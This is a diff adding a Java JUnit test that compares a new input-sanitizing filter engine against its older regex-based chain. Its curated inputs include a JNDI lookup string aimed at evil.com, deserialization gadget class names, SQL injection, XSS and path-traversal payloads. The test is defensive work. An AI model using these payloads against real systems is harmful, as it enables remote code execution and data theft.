@@ -0,0 +1,144 @@
+package com.huangwei.filter;
+
+import static org.junit.Assert.assertEquals;
+import static org.junit.Assert.assertNull;
+import static org.junit.Assert.assertSame;
+import static org.junit.Assert.assertTrue;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Random;
+
+import org.junit.Test;
+
+import com.huangwei.util.StringUtil;
+
+/**
+ * 过滤引擎的差异测试：与改写前的逐段正则替换实现（{@link LegacyFilterChain}）逐条比对输出<br>
+ * <br>
+ * 语料：人工挑选的样例 + 固定种子的随机组合（数量可通过系统属性sanitizer.iterations调整）。
+ */
+public class SanitizerEngineTest {
+
+	/** 随机语料数量 */
+	private static final int ITERATIONS = Integer.getInteger("sanitizer.iterations", 200000);
+	/** 随机语料种子 */
+	private static final long SEED = Long.getLong("sanitizer.seed", 42);
+	/** 随机语料最大片段数 */
+	private static final int MAX_TOKENS = 12;
+
+	/** 人工挑选的样例 */
+	private static final String[] CURATED = { "hello world", "  ", "", "abc", "${jndi:ldap://evil.com/a}",
+			"java.lang.Runtime", "com.sun.rowset.JdbcRowSetImpl", "1' or '1'='1", "1; DROP TABLE users--",
+			"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "../../etc/passwd", "\\u0027 union all select",
+			"a.b.c", "普通中文参数", "JNDI:rmi://a//b", "org.springframework.context.support.ClassPathXmlApplicationContext",
+			"user@example.com", "2021-01-01 12:00:00", "a&b", "x > y", "selectselect", "unionall", "UNION  ALL",
+			"a--b", "a---b", "/*x*/", "/**/", "a/.b", "a./b", "a..//b", "\\u00e9\\U00E9\\uzzzz", "${a}b}",
+			"jdbc:mysql://h/db?x=//y", "Java.Javax.", "\u0085x\u0085", "　中文　", " \t\r\n ",
+			"KELVIN K ı ſ", "MASTERcard", "drop\u0000table" };
+
+	/** 随机语料片段 */
+	private static final String[] TOKENS = { "'", "\"", "%", "^", "~", "\\", "/", ".", "-", "*", "$", "{", "}", "<",
+			">", "&", ";", "=", "a", "B", "x", "0", "9", "f", " ", "\n", "\r", "\u0085", "　", "中", "ı", "K",
+			"ſ", "\t", "jndi:", "JDBC:", "//", "java.", "Javax.", "com.sun.", "org.apache.", "oracle.jdbc.", "dm.jdbc.",
+			"net.sf.", "select", "SeLeCt", "union all", "UNION ALL", "master", "drop", "delete", "update", "insert",
+			"truncate", "declare", "create", "alter", "\\u", "\\u00", "u", "script", "<script>", "</script>",
+			"<a href=", "onclick", "javascript:", "<b>", "&amp;", "&#", "${", "--", "/*", "*/", "img", "src", "c", "o",
+			"m", "s", "l", "e", "t" };
+
+	private final SanitizerEngine engine = new SanitizerEngine(LegacyFilterChain.HTML_FILTER);
+
+	@Test
+	public void testCurated() {
+		for (String input : CURATED) {
+			assertSameAsLegacy(input);
+		}
+	}
+
+	@Test
+	public void testRandom() {
+		final Random random = new Random(SEED);
+		final StringBuilder builder = new StringBuilder();
+		for (int i = 0; i < ITERATIONS; i++) {
+			builder.setLength(0);
+			for (int j = random.nextInt(MAX_TOKENS); j > 0; j--) {
+				builder.append(TOKENS[random.nextInt(TOKENS.length)]);
+			}
+			assertSameAsLegacy(builder.toString());
+		}
+	}
+
+	@Test
+	public void testListener() {
+		final Random random = new Random(SEED + 1);
+		final StringBuilder builder = new StringBuilder();
+		for (int i = 0; i < ITERATIONS / 10; i++) {
+			builder.setLength(0);
+			for (int j = random.nextInt(MAX_TOKENS); j > 0; j--) {
+				builder.append(TOKENS[random.nextInt(TOKENS.length)]);
+			}
+			final String input = builder.toString();
+			final List<String> events = new ArrayList<String>();
+			engine.filter(input, (category, in, out) -> events.add(category + ":" + in + "->" + out));
+			assertEquals("input: [" + input + "]", legacyEvents(input), events);
+		}
+	}
+
+	@Test
+	public void testNull() {
+		assertNull(engine.filter(null));
+		assertNull(engine.sqlInjectFilter(null, null));
+	}
+
+	@Test
+	public void testFastPath() {
+		final String clean = "hey 123 中文,:;=@";
+		final long hits = engine.getFastPathHits();
+		assertSame(clean, engine.filter(clean));
+		assertEquals(hits + 1, engine.getFastPathHits());
+		assertTrue(SanitizerEngine.isClean(clean));
+	}
+
+	/**
+	 * 比对过滤结果（完整过滤链及单独的SQL注入过滤）
+	 *
+	 * @param input
+	 *            输入
+	 */
+	private void assertSameAsLegacy(String input) {
+		assertEquals("input: [" + input + "]", LegacyFilterChain.filter(input), engine.filter(input));
+		assertEquals("sqlInject input: [" + input + "]", LegacyFilterChain.sqlInjectFilter(input),
+				engine.sqlInjectFilter(input, null));
+	}
+
+	/**
+	 * 改写前的实现中，各类规则改变字符串的记录（即原来的告警日志）<br>
+	 * <br>
+	 * 说明：空白字符串归一为空字符串不视为命中规则（原实现会为此打印告警日志，过滤引擎不回调）。
+	 *
+	 * @param input
+	 *            输入
+	 * @return 类别:输入-&gt;输出
+	 */
+	private static List<String> legacyEvents(String input) {
+		final List<String> events = new ArrayList<String>();
+		String value = input.trim();
+		if (value.isEmpty()) {
+			return events;
+		}
+		value = record(events, SanitizerEngine.SPECIAL_CHARACTER, value,
+				LegacyFilterChain.specialCharacterFilter(value));
+		value = record(events, SanitizerEngine.XSS, value, LegacyFilterChain.xssFilter(value));
+		value = record(events, SanitizerEngine.REFLECT, value, LegacyFilterChain.reflectFilter(value));
+		record(events, SanitizerEngine.SQL_INJECT, value, LegacyFilterChain.sqlInjectFilter(value));
+		return events;
+	}
+
+	private static String record(List<String> events, int category, String input, String filtered) {
+		if (!input.equals(filtered) && !(filtered.isEmpty() && StringUtil.isBlank(input))) {
+			events.add(category + ":" + input + "->" + filtered);
+		}
+		return filtered;
+	}
+
+}